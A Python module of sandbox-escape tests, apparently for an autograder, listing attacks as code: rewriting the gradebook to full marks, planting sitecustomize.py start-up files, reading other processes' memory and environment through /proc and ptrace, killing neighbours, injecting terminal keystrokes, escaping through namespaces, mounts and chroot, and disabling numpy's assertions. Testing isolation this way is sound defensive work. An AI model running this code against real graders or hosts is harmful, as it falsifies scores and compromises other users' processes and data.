"""Attacks on what lies outside: files, processes, sockets, keys, the machine."""

from .attack import Attack

CALL = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def syscall(number, *a):
    got = libc.syscall(ctypes.c_long(number), *a)
    return got if got >= 0 else OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
"""

ATTACKS = [
    Attack(
        "gradebook-read",
        "reads the gradebook and asks it for grades",
        before="""
import sqlite3
attempt(lambda: read(WHERE["gradebook"]),
        lambda: sqlite3.connect(WHERE["gradebook"]).execute("select * from grade").fetchall(),
        lambda: sqlite3.connect("file:gradebook.db?mode=ro", uri=True).execute("select 1"))
""",
    ),
    Attack(
        "gradebook-written",
        "gives itself points in the gradebook",
        before="""
import sqlite3
def write():
    with sqlite3.connect(WHERE["gradebook"]) as book:
        book.execute("update grade set auto_score = 100")
attempt(write, lambda: open(WHERE["gradebook"], "ab").write(b"x"))
""",
    ),
    Attack(
        "other-submissions",
        "reads and deletes what others handed in, and lists the folders",
        before="""
import glob
attempt(lambda: read(WHERE["neighbour"]), lambda: os.listdir(".."),
        lambda: glob.glob("../../**/*", recursive=True)[:200],
        lambda: os.unlink(WHERE["neighbour"]),
        lambda: open(WHERE["drop"] + "/files", "w").write("x"))
""",
    ),
    Attack(
        "system-written",
        "writes start-up files into the interpreter's and the system's folders",
        before="""
import site, sysconfig
places = [WHERE["drop"]]
if caged():
    places += [*site.getsitepackages(), sysconfig.get_path("stdlib"), "/usr", "/etc",
               "/usr/bin", "/", "/root", "/var", "/dev", "/sys", "/proc", "/opt",
               os.path.dirname(__import__("course_pkg").__file__), WHERE["root"]]
for place in places:
    for name in ("zz_canary.pth", "sitecustomize.py"):
        try:
            if name not in os.listdir(place):
                open(os.path.join(place, name), "w").write("import os\\n")
                if place not in ("/", "/dev", "/var", "/root", "/opt", "/etc"):
                    print("WROTE", place)
        except OSError:
            pass
""",
    ),
    Attack(
        "home-of-the-next",
        "leaves start-up files in HOME, the working folder, /tmp and /dev/shm",
        before="""
import pathlib
text = "import builtins; builtins.print('LEFT-" + "BEHIND')"
home = pathlib.Path.home()
for place in ([home, pathlib.Path("."), pathlib.Path("/tmp"), pathlib.Path("/dev/shm"),
               pathlib.Path("/var/tmp"), home / ".ipython/profile_default/startup"]
              if caged() else [pathlib.Path(".")]):
    for name in ("00-first.py", "sitecustomize.py", "usercustomize.py", "left.py",
                 "numpy.py", "msgpack.py"):
        try:
            place.mkdir(parents=True, exist_ok=True)
            (place / name).write_text(text)
        except OSError:
            pass
""",
        # A new process of the same session may find its own shadows: its own loss.
        answers={"step_grad": "def step_grad(*a):\n    os._exit(9)\n"},
        keeps=0.0,
    ),
    Attack(
        "leftovers-looked-for",
        "looks for what others left: files, processes, shared memory",
        before="""
import glob
for place in ("/tmp", "/dev/shm", "/var/tmp", ".", os.path.expanduser("~")):
    for path in glob.glob(place + "/**/*.py", recursive=True)[:100] if caged() else []:
        attempt(lambda: read(path))
attempt(lambda: open("/proc/sysvipc/shm").read())
""",
    ),
    Attack(
        "proc-read",
        "reads memory, environment, folders and open files of other processes in /proc",
        before="""
import glob
for pid in [p for p in os.listdir("/proc") if p.isdigit()] if os.path.isdir("/proc") else []:
    if not caged() and int(pid) not in (WHERE["pid"], os.getppid()):
        continue
    base = "/proc/" + pid
    for name in ("environ", "cmdline"):
        attempt(lambda: read(base + "/" + name))
    if int(pid) == os.getpid():
        continue
    attempt(lambda: read(base + "/root" + WHERE["gradebook"]),
            lambda: os.listdir(base + "/cwd"),
            lambda: read(base + "/cwd/gradebook.db"))
    for fd in glob.glob(base + "/fd/*"):
        try:
            target = os.readlink(fd)
        except OSError:
            continue
        if "/dev" not in target and ":" not in target:
            attempt(lambda: read(fd))
attempt(lambda: read("/proc/1/environ"), lambda: read("/proc/1/root" + WHERE["gradebook"]),
        lambda: read("/proc/self/root/.." + WHERE["gradebook"]))
""",
    ),
    Attack(
        "parent-s-memory",
        "attaches to other processes by ptrace, process_vm_readv and pidfd_getfd",
        before=CALL
        + """
targets = [WHERE["pid"]] + ([os.getppid(), 1, 2] if caged() else [])
for pid in targets:
    if pid in (0, os.getpid()):
        continue
    if libc.ptrace(16, pid, 0, 0) == 0:  # attach
        print("TAKEN ptrace", pid)
        os.waitpid(pid, 0x40000000)
        libc.ptrace(17, pid, 0, 0)
    try:
        os.kill(pid, 0)
        fd = os.pidfd_open(pid)
    except OSError:
        continue
    for number in range(8):
        if isinstance(got := syscall(438, fd, number, 0), int):
            print("TAKEN a file of", pid)
            attempt(lambda: os.pread(got, 10000, 0))
            os.close(got)
    try:
        attempt(lambda: open("/proc/%d/mem" % pid, "rb") and print("TAKEN memory of", pid))
    except OSError:
        pass
""",
    ),
    Attack(
        "signals-at-neighbours",
        "stops and kills processes outside, its parents, and everything it may",
        answers={
            "step_grad": """
import signal
def step_grad(d_state, tape):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        targets = [WHERE["pid"], -WHERE["pid"]]
        if caged():
            targets += [os.getppid(), 1, -1]
        for pid in targets:
            try:
                os.kill(pid, number)
            except OSError as error:
                print(error)
    return d_state, d_state, d_state
"""
        },
    ),
    Attack(
        "daemon",
        "leaves a process of its own session behind that outlives the cell",
        before="""
import subprocess
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for fd in (0, 1, 2):
                os.close(fd)
            os.execvp("sh", ["sh", "-c", "trap '' TERM HUP INT; sleep 7; : " + WHERE["marker"]])
        os._exit(0)
subprocess.Popen(["sh", "-c", "sleep 7; : " + WHERE["marker"]], start_new_session=True)
""",
    ),
    Attack(
        "threads-that-stay",
        "leaves threads that change modules and write to every file while others are graded",
        before="""
import threading, time
def stay():
    end = time.time() + 3
    while time.time() < end:
        np.tanh = np.exp
        try:
            np.testing.assert_allclose = lambda *a, **k: None
        except Exception:
            pass
        time.sleep(0.01)
for _ in range(4):
    threading.Thread(target=stay, daemon=False).start()
""",
    ),
    Attack(
        "network",
        "opens connections: to this machine, to others, by name, by every family",
        before="""
import socket, urllib.request
def door(family, kind, address, protocol=0):
    s = socket.socket(family, kind, protocol)
    s.settimeout(0.3)
    s.connect(address)
    s.send(b"hello")
    return "TAKEN " + str(address)[:30]
for host in ("127.0.0.1", "localhost", "0.0.0.0"):
    attempt(lambda: door(socket.AF_INET, socket.SOCK_STREAM, (host, WHERE["port"])))
attempt(lambda: door(socket.AF_INET6, socket.SOCK_STREAM, ("::1", WHERE["port"])),
        lambda: urllib.request.urlopen("http://127.0.0.1:%d/" % WHERE["port"], timeout=0.3))
if caged():
    attempt(lambda: door(socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80)),
            lambda: socket.getaddrinfo("example.invalid", 80))
""",
    ),
    Attack(
        "sockets-outside",
        "connects to Unix sockets, in folders and without a name",
        before="""
import socket
def door(address):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(0.3)
    s.connect(address)
    s.sendall(b"hello")
    return "TAKEN " + repr(address)[:10]
attempt(lambda: door(WHERE["socket"]), lambda: door("\\0" + WHERE["abstract"]))
""",
    ),
    Attack(
        "shared-memory",
        "attaches to System V shared memory and message queues of the machine",
        before=CALL
        + """
libc.shmat.restype = ctypes.c_void_p
number = libc.shmget(WHERE["shm"], 0, 0)
if number >= 0:
    print("TAKEN", ctypes.string_at(libc.shmat(number, None, 0o10000)))
""",
    ),
    Attack(
        "keyring",
        "reads keys of the kernel's keyrings, which no namespace separates",
        before=CALL
        + """
for ring in (-3, -4, -5):
    found = syscall(250, 10, ring, b"user", b"unrolled-canary", 0)
    if isinstance(found, int):
        text = ctypes.create_string_buffer(200)
        syscall(250, 11, found, text, 200)
        print("TAKEN", text.value)
attempt(lambda: read("/proc/keys"))
""",
    ),
    Attack(
        "namespaces-and-mounts",
        "makes namespaces of its own, mounts, changes root, enters others' namespaces",
        before=CALL
        + """
import glob
if caged():
    for flags in (0x10000000, 0x10020000, 0x40000000, 0x20000000):
        if libc.unshare(flags) == 0 and flags == 0x10020000:
            for what in (b"/proc/1/root", b"/"):
                libc.mount(what, b"/tmp", None, 4096 | 16384, None)
                attempt(lambda: read("/tmp" + WHERE["gradebook"]))
    for path in glob.glob("/proc/[0-9]*/ns/*"):
        try:
            fd = os.open(path, os.O_RDONLY)
        except OSError:
            continue
        libc.setns(fd, 0)
        os.close(fd)
    attempt(lambda: os.chroot("/proc/1/root"), lambda: os.chroot("/tmp"))
    for i in range(40):
        try:
            os.chdir("..")
        except OSError:
            break
    attempt(lambda: read(WHERE["gradebook"].lstrip("/")), lambda: read(WHERE["gradebook"]))
    libc.mount(None, b"/", None, 32 | 4096, None)  # read-write again
    attempt(lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0)) or "TAKEN a device")
    try:
        with open("/usr/zz_canary", "w"):
            print("WROTE /usr")
    except OSError:
        pass
""",
        keeps=0.0,  # it may have lost its own folders
    ),
    Attack(
        "calls-a-notebook-never-needs",
        "kernel interfaces with a history: bpf, perf, userfaultfd, io_uring, kexec, modules",
        before=CALL
        + """
calls = dict(bpf=321, perf_event_open=298, userfaultfd=323, io_uring_setup=425,
             init_module=175, kexec_load=246, open_by_handle_at=304, fanotify_init=300,
             quotactl=179, swapon=167, reboot=169, acct=163, settimeofday=164,
             name_to_handle_at=303, move_pages=279, lookup_dcookie=212, syslog=103)
if caged():
    for name, number in calls.items():
        got = syscall(number, 2 if name == "syslog" else 0, 0, 0, 0, 0)
        if isinstance(got, int):
            print("TAKEN", name)
""",
    ),
    Attack(
        "terminal",
        "types into the instructor's terminal",
        before="""
import fcntl, termios
def inject(fd):
    for c in b"# canary\\n":
        fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))
    return "TAKEN the terminal"
if caged():
    attempt(lambda: inject(os.open("/dev/tty", os.O_RDWR)), *[lambda i=i: inject(i) for i in range(3)])
""",
    ),
    Attack(
        "limits-raised",
        "raises its own limits, priority and its place when memory is short",
        before="""
import resource
raised = []
for name in dir(resource):
    if name.startswith("RLIMIT_") and name not in ("RLIMIT_STACK",):
        try:
            soft, hard = resource.getrlimit(getattr(resource, name))
            more = resource.RLIM_INFINITY if hard != resource.RLIM_INFINITY else None
            if more is not None:
                resource.setrlimit(getattr(resource, name), (more, more))
                raised.append(name)
        except (OSError, ValueError):
            pass
if caged():
    for act in (lambda: os.nice(-10), lambda: os.sched_setscheduler(
            0, os.SCHED_FIFO, os.sched_param(1))):
        try:
            act()
            raised.append("priority")
        except OSError:
            pass
if raised and caged():
    print("TAKEN", raised)
""",
    ),
    Attack(
        "links-in-its-folder",
        "makes links to the gradebook in its folder and opens them",
        before="""
for name, target in (("a", WHERE["gradebook"]), ("b", "/proc/1/root" + WHERE["gradebook"])):
    attempt(lambda: os.symlink(target, name), lambda: read(name),
            lambda: os.link(target, name + "-hard"))
""",
    ),
]
